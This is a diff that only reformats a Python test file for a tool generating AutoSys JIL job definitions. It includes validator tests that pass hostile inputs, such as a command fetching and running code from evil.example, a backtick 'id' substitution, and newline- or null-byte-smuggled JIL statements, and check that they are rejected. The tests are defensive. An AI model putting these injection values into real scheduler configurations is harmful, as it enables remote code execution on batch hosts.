@@ -54,16 +54,14 @@ def test_round_trip_gives_back_exactly_the_emitted_statements(config):
     emitted = build_statements(config)
     parsed = parse_jil(emit_jil(config))
     assert parsed.problems == []
-    assert [
-        (s.subcommand, s.name, [(a.name, a.value) for a in s.attributes]) for s in parsed.statements
-    ] == [(s.subcommand, s.name, [(a.name, a.value) for a in s.attributes]) for s in emitted]
+    assert [(s.subcommand, s.name, [(a.name, a.value) for a in s.attributes]) for s in parsed.statements] == [
+        (s.subcommand, s.name, [(a.name, a.value) for a in s.attributes]) for s in emitted
+    ]
     assert [{k: v.to_jil() for k, v in s.conditions.items()} for s in parsed.statements] == [
         {k: v.to_jil() for k, v in s.conditions.items()} for s in emitted
     ]
     calendars = parse_jil(emit_calendars(config))
-    assert [(c.name, c.dates) for c in calendars.statements] == [
-        (c.name, c.dates) for c in build_calendars(config)
-    ]
+    assert [(c.name, c.dates) for c in calendars.statements] == [(c.name, c.dates) for c in build_calendars(config)]
 
 
 def _jobs(config, **kwargs):
@@ -159,9 +157,7 @@ def test_default_permission_is_least_privilege(config):
 
 def test_permission_is_configurable_but_world_edit_is_refused(tmp_path):
     config = load_config(
-        write_config(
-            tmp_path, lambda raw: raw["domains"]["customers"]["autosys"].update(permission="gx,ge")
-        )
+        write_config(tmp_path, lambda raw: raw["domains"]["customers"]["autosys"].update(permission="gx,ge"))
     )
     assert _jobs(config)["ER_CUSTOMER_LOAD"].get("permission") == "gx,ge"
     config = load_config(
@@ -240,10 +236,7 @@ def test_domain_selection(config):
 def test_monthly_calendar_dates(config):
     (calendar,) = build_calendars(config)
     assert calendar.name == "ER_VENDORS_MONTHLY"
-    assert (
-        calendar.dates[:2] == ["01/01/2024 00:00", "02/01/2024 00:00"]
-        and len(calendar.dates) == 120
-    )
+    assert calendar.dates[:2] == ["01/01/2024 00:00", "02/01/2024 00:00"] and len(calendar.dates) == 120
 
 
 def test_day_of_month_beyond_a_short_month_is_clamped(tmp_path):
@@ -270,14 +263,26 @@ def _unchecked(config, section, domain=None, **values):
     [
         ("settings", None, {"autosys_resource": "ER MATCHING"}, "insert_resource 'ER MATCHING'"),
         ("settings", None, {"autosys_resource": "R" * 65}, "name is not valid"),
-        ("autosys", "customers", {"log_dir": "logs/customers"},
-         "domain 'customers': autosys.log_dir 'logs/customers' is not an absolute path"),
+        (
+            "autosys",
+            "customers",
+            {"log_dir": "logs/customers"},
+            "domain 'customers': autosys.log_dir 'logs/customers' is not an absolute path",
+        ),
         ("autosys", "customers", {"permission": "gx,rw"}, "(domain 'customers', autosys.permission): permission"),
-        ("autosys", "customers", {"machine": "host\ninsert_job: PWN   job_type: CMD"},
-         "(domain 'customers', autosys.machine): machine 'host\\ninsert_job: PWN   job_type: CMD': contains control characters"),
+        (
+            "autosys",
+            "customers",
+            {"machine": "host\ninsert_job: PWN   job_type: CMD"},
+            "(domain 'customers', autosys.machine): machine 'host\\ninsert_job: PWN   job_type: CMD': contains control characters",
+        ),
         ("autosys", "products", {"owner": "autosys\rx"}, "(domain 'products', autosys.owner)"),
-        ("autosys", "customers", {"command": "autosys-bridge $(curl evil.example|sh);"},
-         "(domain 'customers', autosys.command): command 'autosys-bridge $(curl evil.example|sh); run customers extract': holds shell syntax"),
+        (
+            "autosys",
+            "customers",
+            {"command": "autosys-bridge $(curl evil.example|sh);"},
+            "(domain 'customers', autosys.command): command 'autosys-bridge $(curl evil.example|sh); run customers extract': holds shell syntax",
+        ),
         ("autosys", "customers", {"command": "autosys-bridge `id`"}, "autosys.command"),
         ("autosys", "vendors", {"profile": "/etc/p\x00"}, "(domain 'vendors', autosys.profile)"),
         ("notifications", "customers", {"emails": ["a@example.com\nmachine: evil"]}, "notifications.emails"),
